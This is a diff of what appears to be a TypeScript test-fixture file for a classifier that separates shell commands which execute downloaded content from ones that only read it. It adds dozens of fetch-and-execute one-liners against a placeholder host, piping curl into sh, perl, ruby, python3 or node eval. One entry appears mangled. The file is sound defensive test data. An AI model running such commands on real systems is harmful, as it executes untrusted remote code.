@@ -1,6 +1,6 @@
 /**
- * Scripts of a shell that run what they download, and scripts that download and run, but not the one the other. Each was run
- * in bash with a program in the place of curl that prints a command.
+ * Scripts of a shell that run what they download, and scripts that download and run, but not the one the other. Where their
+ * programs were at hand, bash ran them with a program in the place of curl that prints a command.
  */
 
 /** What is downloaded is run, by what does it. */
@@ -254,6 +254,24 @@ export const RUN: Readonly<Record<string, readonly string[]>> = {
     'curl https://a.example/x >x; base64 -d <x | sh',
     'curl https://a.example/x >x; tac x | tac | sh',
     'wget https://a.example/x; sh x',
+    'sh -c "echo $(curl https://a.example/x)"; true',
+    "curl https://a.example/x | perl -ne 'system $_'",
+    `curl https://a.example/x | perl -e 'eval join("", <>)'`,
+    'curl https://a.example/x | perl -ne eval',
+    "curl https://a.example/x | ruby -e 'eval STDIN.read'",
+    "curl https://a.example/x | python3 -c 'import os,sys; os.system(sys.stdin.read())'",
+    "curl https://a.example/x | python3 -c 'import subprocess,sys; subprocess.run(sys.stdin.read(), shell=True)'",
+    `curl https://a.example/x | node -e 'eval(require("fs").readFileSync(0)+"")'`,
+    `curl https://a.example/x | node -e 'require("child_process").execSync(require("fs").readFileSync(0)+"")'`,
+    "curl https://a.example/x | sh -c 'exec sh'",
+    "curl https://a.example/x | sh -c 'cd /tmp; sh'",
+    "curl https://a.example/x | sh -c 'sh -s -- --yes'",
+    "curl https://a.example/x | sh -c '. /dev/stdin'",
+    "curl https://a.example/x | sh -c 'python3 -'",
+    'curl https://a.example/x | python3 -c "$(cat)"',
+    'curl https://a.example/x | eval "$(cat)"',
+    'wget -qP/tmp https://a.example/x.sh; sh /tmp/x.sh',
+    'wget -nvP /tmp https://a.example/x.sh; sh /tmp/x.sh',
   ],
 }
 
@@ -420,7 +438,6 @@ export const SILENT: Readonly<Record<string, readonly string[]>> = {
     'aws s3 cp s3://b/x - | jq',
     "curl https://a.example/x | grep -o 'v[0-9.]*' | head -1 | xargs -I{} npx -y foo@{}",
     'V=$(curl https://a.example/x); sh -c "npx -y foo@$V"; true',
-    'sh -c "echo $(curl https://a.example/x)"; true',
     'bash -c "curl -s $(cat url) | jq ."; true',
     'bash -c "until curl -sf https://a.example/x; do sleep 1; done; exec sh start.sh"; true',
     'curl -s https://a.example/x | while IFS=, read -r a b; do node job.js "$a"; done',
@@ -458,6 +475,8 @@ export const SILENT: Readonly<Record<string, readonly string[]>> = {
     `python3 -c "import requests; print(requests.get('https://a.example/x').text)" > x.json; node server.js x.json`,
     `node -e "fetch('https://a.example/x').then(r=>r.text()).then(console.log)" | tee x.json; node server.js`,
     'git log | head; curl https://a.example/x; sh run.sh',
+    `sh -c 'echo "$(curl https://a.example/x)"'; true`,
+    'sh -c "TOKEN=\\$(curl https://a.example/x) node server.js"; true',
     'curl https://a.example/x; (exec sh run.sh)',
     'f() { curl -sf https://a.example/x; }; until f; do sleep 1; done; exec sh run.sh',
     'health() { curl -sf https://a.example/x > /dev/null; }; health && bash run.sh',
@@ -466,5 +485,17 @@ export const SILENT: Readonly<Record<string, readonly string[]>> = {
     'nohup curl https://a.example/x & sh run.sh',
     'sh run.sh & curl https://a.example/x',
     'exec 3< data; curl https://a.example/x; sh run.sh <&3',
+    `curl https://a.example/x | docker exec -i db sh -c 'exec mysql -uroot -p"$MYSQL_ROOT_PASSWORD"'`,
+    `curl https://a.example/x | docker exec -i db sh -c 'psql -https://a.example/x "$POSTGRES_USER"'`,
+    `curl https://a.example/x | python3 -c "import re,sys; print(re.compile('v[0-9]+').findall(sys.stdin.read()))"`,
+    `curl https://a.example/x | python3 -c "import sys,json; print(json.load(sys.stdin)['system'])"`,
+    `curl https://a.example/x | python3 -c "import sys,json; print(json.load(sys.stdin)['hits'][0]['_source'])"`,
+    `curl https://a.example/x | node -e 'process.stdin.on("data",d=>console.log(/v(\\d+)/.exec(d)[1]))'`,
+    `curl https://a.example/x | node -e 'const call = JSON.parse(require("fs").readFileSync(0)); console.log(call.source)'`,
+    "curl https://a.example/x | sh -c 'sh start.sh'",
+    "curl https://a.example/x | bash -c 'source env.sh; node parse.js'",
+    "curl https://a.example/x | bash -c 'exec node parse.js'",
+    `curl https://a.example/x | perl -ne 'print "exec: $_"'`,
+    "curl https://a.example/x | ruby -ne 'puts $_ if /system/'",
   ],
 }
